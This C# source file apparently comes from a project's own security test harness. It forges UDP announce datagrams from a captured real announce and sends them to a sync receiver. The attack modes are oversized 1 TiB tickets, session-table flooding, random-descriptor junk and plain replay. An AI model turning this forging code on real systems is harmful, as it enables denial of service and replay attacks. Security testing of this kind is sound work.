using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Sync.Core.Trust;
using Sync.Transport.Udp.Internal;

namespace Sync.Attacks;

/// <summary>
/// Announces an attacker on the inside's network segment can send to `sync-inside receive` without the packet MAC,
/// built from a captured real announce with the carrier's own codecs, so each is well-formed up to the check it is
/// meant to meet (issue 9, item 5):
/// <list type="bullet">
/// <item>huge: the ticket says k = 1 and a 1 TiB object (the review's OverflowException), under an id of the attacker's
/// and under the real session's, with the real seal; and a 1 TiB ticket at k = 128 sealed with the attacker's own key,
/// which passes every bound and meets the signature check.</item>
/// <item>sessions: the real ticket replayed under N other session ids, half of them with the id in the ticket changed
/// to match (more than the 64 slots of the session table).</item>
/// <item>junk: N announces whose descriptor is random bytes.</item>
/// <item>replay: the captured announces as they are.</item>
/// </list>
/// </summary>
internal static class AnnounceForger
{
    private const long OneTiB = 1L << 40;

    public static int Run(Arguments options)
    {
        var captured = CapturedAnnounces.Load(options.Required("--captured"));
        var to = IPEndPoint.Parse(options.Required("--to"));
        var count = (int)options.Number("--count", 200);
        var attack = options.Required("--attack");
        var datagrams = attack switch
        {
            "huge" => Huge(captured, options.Optional("--attacker-key")),
            "sessions" => Sessions(captured, count),
            "junk" => Junk(captured, count),
            "replay" => captured.Datagrams.ToList(),
            _ => throw new UsageException("--attack takes huge, sessions, junk or replay"),
        };

        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        foreach (var datagram in datagrams)
        {
            socket.SendTo(datagram, to);
        }

        Console.WriteLine($"sent {datagrams.Count} forged announce datagram(s) ({attack}) to {to}");
        return 0;
    }

    private static List<byte[]> Huge(CapturedAnnounces captured, string? attackerKey)
    {
        var (header, _, _) = captured.Open();
        void OneSymbolBlocks(byte[] ticket)
        {
            BinaryPrimitives.WriteInt64LittleEndian(ticket.AsSpan(32), OneTiB);
            BinaryPrimitives.WriteUInt16LittleEndian(ticket.AsSpan(18), 1);
            BinaryPrimitives.WriteUInt32LittleEndian(ticket.AsSpan(72), (uint)Math.Min(uint.MaxValue, (OneTiB + header.PayloadLength - 1) / header.PayloadLength));
        }

        const ulong OwnId = 0xBAD0_0000_0000_0001;
        var datagrams = new List<byte[]>();
        datagrams.AddRange(Forge(captured, OwnId, t => { OneSymbolBlocks(t); SetSessionId(t, OwnId); }));
        datagrams.AddRange(Forge(captured, header.SessionId, OneSymbolBlocks));
        if (attackerKey is not null)
        {
            // Within every bound (k = 128: 6 million blocks), so it is the signature that stops it.
            const ulong SignedId = 0xBAD0_0000_0000_0002;
            using var key = SigningKey.Load(attackerKey);
            datagrams.AddRange(Forge(captured, SignedId, t =>
            {
                BinaryPrimitives.WriteInt64LittleEndian(t.AsSpan(32), OneTiB);
                BinaryPrimitives.WriteUInt32LittleEndian(t.AsSpan(72), (uint)((OneTiB + (header.PayloadLength * 128L) - 1) / (header.PayloadLength * 128L)));
                SetSessionId(t, SignedId);
            }, key));
        }

        return datagrams;
    }

    private static List<byte[]> Sessions(CapturedAnnounces captured, int count)
    {
        var datagrams = new List<byte[]>();
        for (var i = 0; i < count; i++)
        {
            var id = 0xF000_0000UL + (ulong)i;
            datagrams.AddRange(i % 2 == 0 ? Forge(captured, id) : Forge(captured, id, t => SetSessionId(t, id)));
        }

        return datagrams;
    }

    private static List<byte[]> Junk(CapturedAnnounces captured, int count)
    {
        var random = new Random(4);
        var datagrams = new List<byte[]>();
        for (var i = 0; i < count; i++)
        {
            var id = 0xA000_0000UL + (ulong)i;
            var descriptor = new byte[200];
            random.NextBytes(descriptor);
            datagrams.AddRange(Forge(captured, id, t => SetSessionId(t, id), descriptor: descriptor));
        }

        return datagrams;
    }

    private static void SetSessionId(byte[] ticket, ulong id) => BinaryPrimitives.WriteUInt64LittleEndian(ticket.AsSpan(24), id);

    /// <summary>
    /// The captured announce under <paramref name="sessionId"/>, its ticket changed by <paramref name="change"/> (and its
    /// descriptor replaced) and sealed again by <paramref name="resealWith"/>, or keeping the real outside's seal.
    /// </summary>
    private static byte[][] Forge(CapturedAnnounces captured, ulong sessionId, Action<byte[]>? change = null, SigningKey? resealWith = null, byte[]? descriptor = null)
    {
        var (header, sealedTicket, sealLength) = captured.Open();
        var ticket = sealedTicket[..^sealLength];
        var seal = sealedTicket[^sealLength..];
        if (descriptor is not null)
        {
            ticket = [.. ticket[..TicketCodec.FixedSize], .. descriptor];
            BinaryPrimitives.WriteUInt16LittleEndian(ticket.AsSpan(78), (ushort)descriptor.Length);
        }

        change?.Invoke(ticket);
        if (resealWith is not null)
        {
            var signed = resealWith.Sign(ticket);
            seal = [(byte)signed.KeyId.Length, .. signed.KeyId, .. signed.Signature];
        }

        return AnnounceCodec.BuildDatagrams(sessionId, [.. ticket, .. seal], seal.Length, header.Pass, header.PayloadLength, null);
    }
}
